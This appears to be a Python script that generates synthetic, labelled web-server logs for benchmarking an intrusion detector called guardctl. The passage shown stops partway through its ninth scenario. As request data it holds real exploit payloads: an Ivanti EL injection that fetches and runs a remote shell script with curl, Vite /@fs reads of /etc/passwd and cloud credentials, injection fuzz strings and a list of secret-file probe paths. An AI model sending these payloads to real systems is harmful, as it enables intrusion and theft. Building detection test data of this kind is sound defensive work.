"""fresh-s17 attacks10: fifteen attack kinds as they are run today, not
covered by the earlier realistic sets (checked against every file name in
bench/detect/realistic/*/ on 2026-12-08), each inside ordinary traffic of a
different kind of site and log source (nginx combined, a trailing
X-Forwarded-For, nginx escape=json, caddy and traefik JSON), with the benign
look-alikes around it listed as never-banned (and every unlisted client
never-banned too). Several are low and slow on purpose (the brief asks for
them); the REPORT says which.

Written before looking at detector/, patterns/, rules/default.toml, the other
realistic sets' logs or reports, or the Detection section of the README
(session 17, role "fresh"): nothing here is tuned to guardctl.
Run: python3 attacks.py [scenario-name ...]   (fixed seeds, byte-identical output)
"""
import datetime, os
from base import *

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.environ.get("OUT", os.path.join(HERE, "..", "attacks10"))
T0 = datetime.datetime(2026, 12, 7, 10, 0, 0)
SC = []


def scen(f):
    SC.append(f)
    return f


def resi_ip(L):
    """A residential-proxy exit: a home broadband or mobile address anywhere."""
    r = L.rnd
    while True:
        a = "%d.%d.%d.%d" % (r.choice([14, 24, 27, 36, 39, 42, 49, 58, 59, 61, 68, 71, 73, 75, 76, 79, 80, 82, 83, 87, 90, 93, 95, 101, 109, 112, 115, 122, 124, 177, 179, 181, 186, 187, 189, 190, 191, 200, 201]),
                                 r.randint(0, 255), r.randint(0, 255), r.randint(2, 254))
        if a not in L.used:
            L.used.add(a)
            return a


def cgnat(L):
    return L.ip(L.rnd.choice(["176.0.%d" % L.rnd.randint(0, 255), "80.187.%d" % L.rnd.randint(0, 255)]))


# 1. Password spraying a SaaS JSON API, one address and a pool (nginx JSON, ALB).
# Models: one password ("Winter2026!", then "Dezember2026!") tried once per
# account over 1,100 harvested addresses: a VPS at one try every 3-4 s for an
# hour (python-requests), and a residential-proxy pool of 90 exits trying
# 3-5 accounts each over two hours on the OAuth password grant (400
# invalid_grant) - the "low and slow" spray Microsoft and Okta describe in
# their 2024-25 threat reports; a few hits (200) are followed by /api/v1/me.
# The API sits behind an ALB (trusted 10.2.0.0/16). Around: an office NAT
# where users log in (some typos), the mobile app refreshing tokens.
@scen
def json_api_password_spray_single_and_pool_behind_alb():
    L = Log(T0, 4001, "api.example-crm.io")
    L.fmt = dict(json="nginx")
    r = L.rnd
    site = saas_site("app.example-crm.io")
    good = background(L, site, 7200, n=30, office=False)
    bad = []
    vps = dc_ip(L)
    t = 600.0
    while t < 4200:
        L.add(t, vps, "POST", "/api/v1/auth/login", 200 if r.random() < 0.002 else 401, 64, "-", "python-requests/2.32.3")
        t += r.uniform(3, 4)
    bad.append((vps, "password spray: one password over ~1,000 accounts, one try every 3-4 s for an hour"))
    for k in range(90):
        ip = resi_ip(L)
        t = r.uniform(0, 6000)
        for a in range(r.randint(3, 5)):
            L.add(t, ip, "POST", "/oauth/token", 400, 84, "-", r.choice(UAS[:4]))
            t += r.uniform(60, 600)
        bad.append((ip, "spray pool exit: 3-5 password grants (400 invalid_grant) over minutes"))
    office = L.ip("193.101.%d" % r.randint(0, 255))
    for k in range(40):
        t = r.uniform(0, 6800)
        ua = r.choice(UAS[:4])
        L.add(t, office, "GET", "/login", 200, 9000, "-", ua)
        for w in range(r.choice([0, 0, 0, 1, 2])):
            t += r.uniform(5, 20)
            L.add(t, office, "POST", "/api/v1/auth/login", 401, 64, site.url("/login"), ua)
        L.add(t + 8, office, "POST", "/api/v1/auth/login", 200, 900, site.url("/login"), ua)
        for q in range(r.randint(5, 30)):
            t += r.uniform(3, 60)
            L.add(t + 8, office, "GET", r.choice(["/api/v1/deals?stage=open", "/api/v1/contacts?page=2", "/api/v1/me", "/api/v1/activities"]), 200, 8000, site.url("/dashboard"), ua)
    good.append((office, "office NAT: 40 logins, some typos"))
    mob = cgnat(L)
    for k in range(60):
        t = r.uniform(0, 7000)
        L.add(t, mob, "POST", "/oauth/token", 400 if r.random() < 0.1 else 200, 900, "-", "CRMApp/5.4.1 (iPhone; iOS 18.1.1; Scale/3.00)")
        for q in range(r.randint(2, 10)):
            L.add(t + q * 2 + 1, mob, "GET", "/api/v1/deals?updated_since=2026-12-07T00:00:00Z", 200, 5000, "-", "CRMApp/5.4.1 (iPhone; iOS 18.1.1; Scale/3.00)")
    good.append((mob, "mobile CGNAT: app refresh grants (some 400 expired)"))
    albs = ["10.2.%d.%d" % (r.randint(0, 3), r.randint(2, 250)) for _ in range(3)]
    behind_proxy(L, albs)
    return L, "nginx JSON log of a CRM API behind an ALB (trusted 10.2.0.0/16): password spraying one password over ~1,000 accounts from a VPS (one try per 3-4 s for an hour) and from 90 residential exits (3-5 password grants each, 400, minutes apart); office NAT logins with typos, the mobile app's refresh grants", bad, good, 'trusted_proxies = ["10.2.0.0/16"]\n'


# 2. Archived-URL replay recon (waybackurls | httpx) on a relaunched portal.
# Models: `waybackurls` / `gau` list ~6,000 historic URLs of the domain and
# `httpx -sc -title` (50 threads, its default random browser UA per request)
# replays them at ~40 req/s: after the relaunch most answer 404/301/410,
# some 200; old URLs carry parameters (session ids, search terms, ids). Then
# the attacker fuzzes the 200s' parameters. Around: Googlebot still crawling
# old URLs (404/410), citizens with old bookmarks, an office NAT.
@scen
def wayback_url_replay_recon_relaunched_gov_portal():
    L = Log(T0, 4002, "www.example-landkreis.gov")
    r = L.rnd
    site = gov_site("www.example-landkreis.gov")
    good = background(L, site, 3600, n=40)
    oldp = ["/index.php?id=%d" % i for i in range(1, 900)] + ["/buergerservice/%s.html" % w for w in ["kfz", "meldewesen", "abfall", "bauen", "jugend", "soziales", "ordnungsamt", "wahlen"]] + \
           ["/index.php?id=%d&tx_news_pi1%%5Bnews%%5D=%d&cHash=%s" % (r.randint(1, 900), r.randint(1, 4000), hexid(r, 32)) for _ in range(1500)] + \
           ["/suche.html?tx_indexedsearch%%5Bsword%%5D=%s" % w for w in ["hund", "müll", "ausweis", "test", "admin", "'", "1"]] + ["/fileadmin/user_upload/%s.pdf" % hexid(r, 10) for _ in range(800)]
    bad = []
    ip = dc_ip(L)
    t = 900.0
    for k in range(5000):
        p = r.choice(oldp)
        st = r.choice([404] * 6 + [301, 410, 200])
        L.add(t, ip, "GET", p, st, 0 if st == 301 else r.randint(2000, 30000), "-", r.choice(UAS))
        t += r.expovariate(40)
    bad.append((ip, "waybackurls | httpx: 5,000 archived URLs at ~40 req/s, random UAs, mostly 404/301/410"))
    for k in range(400):
        L.add(t, ip, "GET", "/index.php?id=%d&%s=%s" % (r.randint(1, 900), r.choice(["L", "type", "no_cache", "tx_news_pi1%5Bnews%5D"]), pct(r.choice(["1'", "1\"", "<svg/onload=alert(1)>", "../../../../etc/passwd", "1 AND 1=1", "{{7*7}}"]))), r.choice([200, 404, 400]), 9000, "-", r.choice(UAS))
        t += r.expovariate(10)
    gb = "66.249.66.%d" % r.randint(2, 200)
    for k in range(600):
        L.add(r.uniform(0, 3600), gb, "GET", r.choice(oldp), r.choice([404, 404, 410, 301]), 3000, "-", GOOGLEBOT)
    good.append((gb, "Googlebot recrawling pre-relaunch URLs (404/410/301)"))
    for k in range(20):
        c = L.ip()
        L.add(r.uniform(0, 3500), c, "GET", r.choice(oldp), 404, 6000, "-", r.choice(UAS))
        if k < 4:
            good.append((c, "citizen with an old bookmark (404)"))
    return L, "Relaunched county portal: archived-URL replay (waybackurls | httpx, 5,000 old URLs at ~40 req/s with random browser UAs, mostly 404/301/410) then parameter fuzzing of the survivors; Googlebot recrawling old URLs (600, mostly 404/410), citizens with old bookmarks, office NAT", bad, good


# 3. OTP brute force through GraphQL array batching (caddy JSON).
# Models: a fintech SPA's GraphQL endpoint accepts JSON arrays of operations:
# the attacker sends 50 verifyOtp mutations per POST (every answer 200,
# errors inside the body, the same ~4 kB size), 2 POST/s for 10 minutes
# from one VPS (1,200 POSTs = 60,000 guesses), a second one spreads 100-alias
# batches over 6 VPS at 1 POST/2 s each. Neither loads a page. Around: the
# SPA's users (Apollo client: 5-30 POST /graphql per screen, all 200) and
# the iOS app on a CGNAT. Batching attacks: public write-ups since 2019
# (e.g. PortSwigger's GraphQL batching labs), still reported in 2025.
@scen
def graphql_array_batch_otp_brute_caddy_json():
    L = Log(T0, 4003, "app.example-finpay.eu", proto="HTTP/2.0")
    L.fmt = dict(json="caddy")
    r = L.rnd
    site = app_site("app.example-finpay.eu", ["/", "/login", "/wallet", "/cards", "/transfers", "/settings/security"])
    good = []
    bad = []

    def user(ip, ua, t, n):
        page_view(L, site, t, ip, ua, "/login", "-", set())
        for k in range(n):
            t += r.uniform(0.5, 30)
            for q in range(r.randint(5, 30)):
                L.add(t + q * r.uniform(0.02, 0.2), ip, "POST", "/graphql", 200, r.randint(300, 60000), site.url(r.choice(site.pages)), ua)
    for k in range(60):
        ip = L.ip()
        user(ip, r.choice(UAS), r.uniform(0, 3300), r.randint(3, 20))
        if k < 5:
            good.append((ip, "SPA user: 5-30 GraphQL POSTs per screen"))
    mob = cgnat(L)
    for k in range(80):
        t = r.uniform(0, 3500)
        for q in range(r.randint(3, 40)):
            L.add(t + q * r.uniform(0.1, 3), mob, "POST", "/graphql", 200, r.randint(300, 30000), "-", "FinPay/7.12 (iPhone; iOS 18.1.1) Apollo/1.15.3")
    good.append((mob, "iOS app on a CGNAT: 80 users, GraphQL POSTs"))
    a = dc_ip(L)
    L.add(1199.0, a, "POST", "/graphql", 200, 900, "-", "python-httpx/0.27.2")
    t = 1200.0
    while t < 1800:
        L.add(t, a, "POST", "/graphql", 200, r.randint(4080, 4120), "-", "python-httpx/0.27.2")
        t += r.uniform(0.4, 0.6)
    bad.append((a, "OTP brute force: 50 mutations per POST, 2 POST/s for 10 min"))
    for k in range(6):
        ip = dc_ip(L)
        t = 2200.0 + r.uniform(0, 5)
        while t < 2200 + 900:
            L.add(t, ip, "POST", "/graphql", 200, r.randint(8100, 8200), site.url("/login"), UAS[0])
            t += r.uniform(1.5, 2.5)
        bad.append((ip, "alias-batched OTP guessing, 1 POST/2 s for 15 min (one of 6)"))
    return L, "Caddy JSON log of a fintech SPA: OTP brute force with GraphQL array batching (50 mutations per POST, 2 POST/s for 10 min, all 200 with the same size) and alias batching from 6 VPS (1 POST/2 s each for 15 min), no page loads; SPA users with 5-30 GraphQL POSTs per screen, the iOS app on a CGNAT", bad, good


# 4. Floods of several shapes on a SaaS app (caddy JSON).
# Models: (a) one VPS, Go client, GET / at ~800 req/s for 20 s (booter
# "HTTP-GET" method); (b) one VPS, 60 req/s for 60 s on /api/search with a
# random q (cache-busting the search); (c) 15 hosting addresses, 25 req/s
# each for 45 s, /?<rand>=<rand> with browser UAs; (d) a POST flood on /login
# at ~200 req/s for 15 s (python-httpx, HTTP/2); (e) 40 residential proxies
# at ~10 req/s each for 30 s on the pricing page. Durations and rates: the
# 10-1,000 req/s, 15-75 s bursts in Cloudflare's and Gcore's 2024-25 DDoS
# reports (most HTTP attacks end within a minute). Around: heavy SPA users,
# an office NAT, a load-test-free CI.
@scen
def flood_shapes_saas_caddy_json():
    L = Log(T0, 4004, "app.example-ledger.io", proto="HTTP/2.0")
    L.fmt = dict(json="caddy")
    r = L.rnd
    site = saas_site()
    good = background(L, site, 3600, n=40)
    bad = []
    for k in range(10):
        ip = L.ip()
        t = r.uniform(0, 3000)
        ua = r.choice(UAS)
        for s in range(r.randint(10, 40)):
            for q in range(r.randint(10, 40)):
                L.add(t + q * r.uniform(0.01, 0.05), ip, "GET", r.choice(["/api/v2/invoices?page=%d" % r.randint(1, 40), "/api/v2/customers/%d" % r.randint(1, 9000), "/api/v2/reports/vat?year=2026&q=%d" % r.randint(1, 4)]), 200, r.randint(500, 40000), site.url("/invoices"), ua)
            t += r.uniform(2, 30)
        if k < 4:
            good.append((ip, "heavy SPA user: bursts of 10-40 API calls"))
    a = dc_ip(L)
    t = 600.0
    while t < 620:
        L.add(t, a, "GET", "/", 200, 6400, "-", "Go-http-client/1.1")
        t += r.expovariate(800)
    bad.append((a, "GET / flood ~800 req/s for 20 s"))
    b = dc_ip(L)
    t = 1200.0
    while t < 1260:
        L.add(t, b, "GET", "/api/search?q=%s" % rand_token(r, 10), 200, 1800, "-", r.choice(UAS))
        t += r.expovariate(60)
    bad.append((b, "cache-busting search flood 60 req/s for 60 s"))
    for k in range(15):
        c = dc_ip(L)
        t = 1800.0 + r.uniform(0, 2)
        while t < 1845:
            L.add(t, c, "GET", "/?%s=%s" % (rand_token(r, 5, "abcdefghijklmnopqrstuvwxyz"), rand_token(r, 8)), 200, 6400, r.choice(["-", "https://www.google.com/"]), r.choice(UAS))
            t += r.expovariate(25)
        bad.append((c, "random-query flood, 25 req/s for 45 s (one of 15)"))
    d = dc_ip(L)
    t = 2400.0
    while t < 2415:
        L.add(t, d, "POST", "/login", 200, 5200, "-", "python-httpx/0.27.2")
        t += r.expovariate(200)
    bad.append((d, "POST /login flood ~200 req/s for 15 s"))
    for k in range(40):
        e = resi_ip(L)
        t = 3000.0 + r.uniform(0, 3)
        while t < 3030:
            L.add(t, e, "GET", "/pricing", 200, 24000, "-", r.choice(UAS))
            t += r.expovariate(10)
        bad.append((e, "residential-proxy flood on /pricing, ~10 req/s for 30 s (one of 40)"))
    return L, "Caddy JSON log of a SaaS app with five floods: GET / at ~800 req/s for 20 s, cache-busting search at 60 req/s for 60 s, 15 hosting addresses at 25 req/s for 45 s with random queries, POST /login at ~200 req/s for 15 s, 40 residential proxies at ~10 req/s for 30 s; heavy SPA users, office NAT, crawlers", bad, good


# 5. Floods on a news front page: one address, a residential pool, an IPv6 /64.
# Models: (a) a single VPS at ~1,000 req/s for 15 s on / (HTTP/1.1
# keep-alive flood from a 10 Gbit host); (b) 60 residential proxies at ~8
# req/s each for 75 s on the front page and section pages with browser UAs;
# (c) a /64 taking a new address every request, ~200 req/s for 30 s on the
# search. Rates: the DDoS reports' typical short bursts. Around: readers in
# a breaking-news spike (mobile CGNAT 300 readers refreshing), crawlers.
@scen
def flood_news_frontpage_single_pool_and_ipv6_64():
    L = Log(T0, 4005, "www.example-rundschau.de")
    r = L.rnd
    site = news_site("www.example-rundschau.de")
    good = background(L, site, 3600, n=60)
    mob = cgnat(L)
    browsers(L, site, 300, 3600, ips=[mob], pages_per=(1, 6), think=(20, 120))
    good.append((mob, "mobile CGNAT: 300 readers in a news spike"))
    bad = []
    a = dc_ip(L)
    t = 900.0
    while t < 915:
        L.add(t, a, "GET", "/", 200, 98000, "-", UAS[0])
        t += r.expovariate(1000)
    bad.append((a, "front-page flood ~1,000 req/s for 15 s"))
    for k in range(60):
        b = resi_ip(L)
        t = 1800.0 + r.uniform(0, 5)
        while t < 1875:
            L.add(t, b, "GET", r.choice(["/", "/politik/", "/sport/", "/lokales/"]), 200, 90000, r.choice(["-", "https://www.google.com/"]), r.choice(UAS))
            t += r.expovariate(8)
        bad.append((b, "residential-proxy flood ~8 req/s for 75 s (one of 60)"))
    pfx = "2a0e:97c0:3e1:%x" % r.randint(0, 0xffff)
    t = 2700.0
    while t < 2730:
        L.add(t, L.ip6(pfx), "GET", "/suche/?q=%s" % rand_token(r, 8, "abcdefghijklmnopqrstuvwxyz"), 200, 30000, "-", r.choice(UAS))
        t += r.expovariate(200)
    bad.append((pfx + "::/64", "IPv6 /64 with a new address per request, ~200 req/s for 30 s on the search"))
    return L, "News front page: a single VPS at ~1,000 req/s for 15 s, 60 residential proxies at ~8 req/s for 75 s, an IPv6 /64 with a new address per request at ~200 req/s for 30 s on the search; a mobile CGNAT with 300 readers in a news spike, readers, crawlers", bad, good


# 6. WebDAV method abuse with davtest and cadaver (university web server).
# Models: davtest (UA "DAV.pm/v0.49") MKCOLs DavTestDir_XXXX, PUTs
# davtest_XXXX.{php,asp,aspx,jsp,cgi,pl,cfm,shtml,html,txt,jhtml}, GETs them,
# then tries MOVE/COPY to ".php;.jpg" names; everything answers 405/403 on
# the main site; cadaver then PROPFINDs with Depth: infinity. A second bot
# sends TRACE, DEBUG /x.aspx, SEARCH /, PROPPATCH and PUT /uploads/x.php
# once each on 20 paths. Around: staff using the faculty's real WebDAV share
# (/dav/, Microsoft-WebDAV-MiniRedir and davfs2: PROPFIND/LOCK/PUT/MOVE 2xx).
@scen
def webdav_method_abuse_davtest_cadaver_university():
    L = Log(T0, 4006, "www.uni-example.edu")
    r = L.rnd
    site = uni_site()
    good = background(L, site, 3600, n=40)
    bad = []
    a = dc_ip(L)
    t = 1000.0
    tag = rand_token(r, 10)
    for base in ["/", "/fileadmin/", "/uploads/", "/typo3temp/", "/dav/"]:
        L.add(t, a, "OPTIONS", base, 200, 0, "-", "DAV.pm/v0.49")
        L.add(t + 0.1, a, "MKCOL", base + "DavTestDir_%s/" % tag, 405 if base != "/dav/" else 401, 166, "-", "DAV.pm/v0.49")
        t += 0.3
        for ext in ["php", "asp", "aspx", "jsp", "cgi", "pl", "cfm", "shtml", "html", "txt", "jhtml"]:
            L.add(t, a, "PUT", base + "davtest_%s.%s" % (tag, ext), 405 if base != "/dav/" else 401, 166, "-", "DAV.pm/v0.49")
            L.add(t + 0.05, a, "GET", base + "davtest_%s.%s" % (tag, ext), 404, 3100, "-", "DAV.pm/v0.49")
            t += 0.12
        for m in ["MOVE", "COPY"]:
            L.add(t, a, m, base + "davtest_%s.txt" % tag, 405 if base != "/dav/" else 401, 166, "-", "DAV.pm/v0.49")
            t += 0.1
    for k in range(30):
        L.add(t, a, "PROPFIND", r.choice(["/", "/dav/", "/fileadmin/", "/intranet/"]), r.choice([405, 401, 403]), 166, "-", "cadaver/0.23.3 neon/0.30.2")
        t += r.uniform(0.3, 2)
    bad.append((a, "davtest + cadaver: MKCOL/PUT/MOVE/COPY/PROPFIND on every directory (405/401)"))
    b = dc_ip(L)
    t = 2500.0
    for p in ["/", "/index.php", "/uploads/", "/api/", "/typo3/", "/fileadmin/", "/studium/", "/login", "/x.aspx", "/test.php", "/admin/", "/cgi-bin/", "/webdav/", "/files/", "/backup/", "/shell.php", "/owa/", "/exchange/", "/public/", "/tmp/"]:
        for m in ["TRACE", "DEBUG", "SEARCH", "PROPPATCH", "PUT", "TRACK"]:
            L.add(t, b, m, p if m != "PUT" else p.rstrip("/") + "/x.php", r.choice([405, 405, 400, 501]), 166, "-", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0")
            t += r.uniform(0.2, 1.0)
    bad.append((b, "odd-method sweep: TRACE/DEBUG/SEARCH/PROPPATCH/PUT/TRACK on 20 paths"))
    staff = L.ip("141.20.248")
    for k in range(20):
        t = r.uniform(0, 3400)
        ua = r.choice(["Microsoft-WebDAV-MiniRedir/10.0.19045", "davfs2/1.7.0 neon/0.32.5", "WebDAVFS/3.0.0 (03008000) Darwin/24.1.0 (arm64)"])
        home = "/dav/home/u%05d/" % r.randint(0, 99999)
        L.add(t, staff, "OPTIONS", "/dav/", 200, 0, "-", ua)
        for op in range(r.randint(10, 80)):
            m = r.choice(["PROPFIND"] * 5 + ["GET", "PUT", "LOCK", "UNLOCK", "MOVE", "DELETE", "MKCOL", "PROPPATCH"])
            st = {"PROPFIND": 207, "GET": 200, "PUT": 201, "LOCK": 200, "UNLOCK": 204, "MOVE": 201, "DELETE": 204, "MKCOL": 201, "PROPPATCH": 207}[m]
            if m == "PROPFIND" and r.random() < 0.1:
                st = 404
            if op == 0:
                L.add(t, staff, m, home, 401, 0, "-", ua)
            L.add(t + 0.1, staff, m, home + r.choice(["Vorlesung/", "Paper/draft-%d.docx" % r.randint(1, 9), "~$draft.docx", "desktop.ini", "Thumbs.db", "._notes.txt"]), st, 3000, "-", ua)
            t += r.uniform(0.05, 3)
    good.append((staff, "faculty NAT: staff on the WebDAV share (MiniRedir, davfs2, macOS): PROPFIND/LOCK/PUT/MOVE, 401 challenges, 404s"))
    return L, "University web server: davtest (MKCOL/PUT/GET/MOVE/COPY of test files in 11 extensions on 5 directories, 405/401) then cadaver PROPFINDs, and an odd-method sweep (TRACE/DEBUG/SEARCH/PROPPATCH/PUT/TRACK on 20 paths); staff using the real /dav/ share (Windows MiniRedir, davfs2, macOS) behind the faculty NAT, visitors, crawlers", bad, good


# 7. 2025 exploit chains still run in late 2026 (Vite, Ivanti EPMM,
# GoAnywhere, Commvault, Cisco ISE).
# Models: each chain as Shadowserver/GreyNoise/CISA KEV write-ups describe
# it: a fingerprint GET, the exploit request, then use of what it planted.
# Vite dev server CVE-2025-30208/31125 (/@fs/...?import&raw??), Ivanti EPMM
# CVE-2025-4427/4428 (EL injection in featureusage?format=), GoAnywhere MFT
# CVE-2025-10035 (License Servlet POST), Commvault CVE-2025-34028
# (deployWebpackage.do then the planted JSP), Cisco ISE CVE-2025-20281
# (enableStrongSwanTunnel). Five chains from five VPS plus 25 mass-exploit
# one-shots. Around: the company's real Vite-built SPA (/assets/index-*.js)
# and a developer on the office VPN using a Vite dev server on the staging
# host (/@vite/client, /@fs/ node_modules paths of a monorepo: real, 200).
@scen
def exploit_chains_2025_vite_epmm_goanywhere_commvault_ise():
    L = Log(T0, 4007, "portal.example-logistik.de")
    r = L.rnd
    site = Site("portal.example-logistik.de", ["/", "/tracking", "/login", "/kontakt", "/karriere"], ["/assets/index-B1x9Qk3d.css"], ["/assets/index-Cq7Vh2mA.js", "/assets/vendor-D4kL0pQz.js"], lambda p, r: ["/assets/logo-Bx81.svg"])
    good = background(L, site, 3600, n=40)
    bad = []
    chains = [
        [("GET", "/", 200), ("GET", "/@vite/client", 404), ("GET", "/@fs/etc/passwd?import&raw??", 404), ("GET", "/@fs/proc/self/environ?raw??", 404), ("GET", "/@fs/app/.env?import&raw??", 404), ("GET", "/@fs/root/.aws/credentials?raw??", 404)],
        [("GET", "/mifs/user/login.jsp", 404), ("GET", "/mifs/rs/api/v2/featureusage?format=" + pct("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('curl http://193.29.13.7/e.sh|sh')}"), 404),
         ("GET", "/mifs/rs/api/v2/featureusage_history?format=" + pct("${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"), 404)],
        [("GET", "/goanywhere/auth/Login.xhtml", 404), ("POST", "/goanywhere/lic/accept/%s-%s-%s-%s-%s" % (hexid(r, 8), hexid(r, 4), hexid(r, 4), hexid(r, 4), hexid(r, 12)), 404), ("GET", "/goanywhere/images/%s.jsp" % hexid(r, 8), 404)],
        [("GET", "/commandcenter/", 404), ("POST", "/commandcenter/deployWebpackage.do", 404), ("GET", "/reports/MetricsUpload/shell/.tmp/dist-cc/dist-cc/%s/shell/%s.jsp" % (hexid(r, 8), hexid(r, 6)), 404), ("POST", "/commandcenter/RestServlet", 404)],
        [("GET", "/admin/login.jsp", 404), ("POST", "/deployment-rpc/enableStrongSwanTunnel", 404), ("GET", "/deployment-rpc/enableStrongSwanTunnel", 404)],
    ]
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.7.1", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"]
    for i, ch in enumerate(chains):
        ip = dc_ip(L)
        t = r.uniform(300, 3300)
        for m, p, st in ch:
            L.add(t, ip, m, p, st, 3100, "-", uas[i])
            t += r.uniform(0.5, 8)
        bad.append((ip, "exploit chain %d: fingerprint, exploit, use of the planted file" % (i + 1)))
    for k in range(25):
        ip = dc_ip(L)
        m, p, st = r.choice([c for ch in chains for c in ch if c[0] == "POST" or "?" in c[1]])
        L.add(r.uniform(0, 3600), ip, m, p, st, 3100, "-", r.choice(uas))
        bad.append((ip, "mass-exploitation one-shot (one request)"))
    vpn = L.ip("195.145.%d" % r.randint(0, 255))
    for k in range(3):
        t = r.uniform(0, 3000)
        L.add(t, vpn, "GET", "/staging/", 200, 800, "-", UAS[0])
        L.add(t + 0.1, vpn, "GET", "/staging/@vite/client", 200, 180000, site.url("/staging/"), UAS[0])
        for q in range(r.randint(80, 200)):
            L.add(t + 0.2 + q * 0.01, vpn, "GET", r.choice(["/staging/@fs/home/dev/logistik/node_modules/.vite/deps/%s.js?v=%s" % (r.choice(["react", "react-dom_client", "leaflet", "date-fns", "zod"]), hexid(r, 8)),
                                                             "/staging/src/%s.tsx?t=%d" % (r.choice(["App", "main", "routes/Tracking", "components/Map"]), 1796630000000 + r.randint(0, 10**6)),
                                                             "/staging/@fs/home/dev/logistik/packages/ui/src/%s.tsx" % r.choice(["Button", "Table", "Modal"])]), 200, r.randint(500, 80000), site.url("/staging/"), UAS[0])
    good.append((vpn, "office VPN: developer on the Vite dev server (staging): /@vite/client, /@fs/ node_modules paths, 200"))
    return L, "Logistics portal (Vite-built SPA): five 2025 exploit chains (Vite /@fs raw reads, Ivanti EPMM EL injection, GoAnywhere License Servlet, Commvault deployWebpackage + planted JSP, Cisco ISE enableStrongSwanTunnel) from five VPS and 25 one-shots; a developer on the Vite dev server through the office VPN (/@fs/ node_modules paths, 200), visitors, crawlers", bad, good


# 8. TV activation-code guessing (device authorization flow) on a streaming site.
# Models: TVs show a 6-character code the viewer types at /activate; an
# attacker guesses codes of pending activations to hijack them (the RFC 8628
# section 5.1 "brute forcing the user code" threat): 3 VPS at ~1-2 tries/s
# for 20 minutes (POST /activate 400 on a wrong code, 302 on a hit), and an
# IPv6 /64 rotating address every 10 tries. Around: TVs polling the token
# endpoint every 5 s while they wait (400 authorization_pending, the RFC's
# default interval) from households and a hotel NAT, viewers mistyping codes.
@scen
def tv_activation_code_guessing_device_flow_streaming():
    L = Log(T0, 4008, "www.example-streaming.tv")
    r = L.rnd
    site = vod_site("www.example-streaming.tv")
    good = background(L, site, 3600, n=30)
    bad = []
    hotel = L.ip("62.216.%d" % r.randint(0, 255))

    def tv(ip, t, typos):
        tvua = r.choice(["Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT1.211025.001.Z4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36", "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager", "Roku/DVP-14.1 (14.1.4.5807-C6)"])
        L.add(t, ip, "POST", "/oauth/device/code", 200, 240, "-", tvua)
        wait = r.uniform(30, 180) + typos * 20
        tt = t + 5
        while tt < t + wait:
            L.add(tt, ip, "POST", "/oauth/device/token", 400, 60, "-", tvua)
            tt += 5
        L.add(tt, ip, "POST", "/oauth/device/token", 200, 1400, "-", tvua)
        pu = r.choice(UAS[4:6])
        pt = t + 10
        L.add(pt, ip, "GET", "/activate", 200, 9000, "-", pu)
        for k in range(typos):
            pt += r.uniform(8, 20)
            L.add(pt, ip, "POST", "/activate", 400, 9100, site.url("/activate"), pu)
        L.add(pt + r.uniform(8, 20), ip, "POST", "/activate", 302, 0, site.url("/activate"), pu)
    for k in range(25):
        tv(hotel, r.uniform(0, 3300), r.choice([0, 0, 1, 2]))
    good.append((hotel, "hotel NAT: 25 TVs polling the token endpoint every 5 s (400 pending), guests typing codes"))
    for k in range(40):
        ip = L.ip()
        tv(ip, r.uniform(0, 3300), r.choice([0, 0, 0, 1, 3]))
        if k < 6:
            good.append((ip, "household activating a TV (polling 400s, typos)"))
    for k in range(3):
        ip = dc_ip(L)
        t = 900.0 + k * 400
        L.add(t, ip, "GET", "/activate", 200, 9000, "-", UAS[0])
        t += 1
        while t < 900 + k * 400 + 1200:
            L.add(t, ip, "POST", "/activate", 302 if r.random() < 0.001 else 400, 9100, site.url("/activate"), UAS[0])
            t += r.uniform(0.5, 1.0)
        bad.append((ip, "activation-code guessing ~1-2 tries/s for 20 min"))
    pfx = "2a05:f480:1c00:%x" % r.randint(0, 0xffff)
    t = 2000.0
    while t < 2900:
        ip = L.ip6(pfx)
        for k in range(10):
            L.add(t, ip, "POST", "/activate", 400, 9100, site.url("/activate"), UAS[3])
            t += r.uniform(0.8, 1.6)
    bad.append((pfx + "::/64", "activation-code guessing from a /64, a new address every 10 tries, ~0.8/s for 15 min"))
    return L, "Streaming site's TV activation (device flow): code guessing on POST /activate from 3 VPS (~1-2/s for 20 min, 400) and an IPv6 /64 rotating every 10 tries; TVs polling /oauth/device/token every 5 s (400 authorization_pending) from a hotel NAT and households, viewers mistyping codes", bad, good


# 9. One-shot secret probes with a Googlebot UA from fresh addresses (traefik JSON).
# Models: secret-file harvesters that spread one or two requests per address
# over hundreds of cloud addresses (IPv4 and IPv6 in distinct /64s) and claim
# to be Googlebot: /.env, /.git/config, /.aws/credentials, /config.json,
# /.vscode/sftp.json, /docker-compose.yml, /.npmrc, /wp-config.php.bak,
# /backup.sql, /server.key, /.DS_Store... Around: the real Googlebot (66.249)
# crawling the forum, a user agent checker, the forum's own /manifest.json.
@scen
def oneshot_secret_probes_fake_googlebot_ipv6_traefik_json():
    L = Log(T0, 4009, "forum.example-fans.net")
    L.fmt = dict(json="traefik")
    r = L.rnd
    site = forum_site()
    good = background(L, site, 3600, n=50)
    bad = []
    secrets = ["/.env", "/.git/config", "/.aws/credentials", "/config.json", "/.vscode/sftp.json", "/docker-compose.yml", "/.npmrc", "/wp-config.php.bak", "/backup.sql", "/server.key", "/.DS_Store", "/.env.production", "/api/.env", "/laravel/.env", "/.git/HEAD", "/config/database.yml", "/.ssh/id_rsa", "/secrets.json", "/application.properties", "/.terraform/terraform.tfstate"]
    for k in range(160):
        if k % 2:
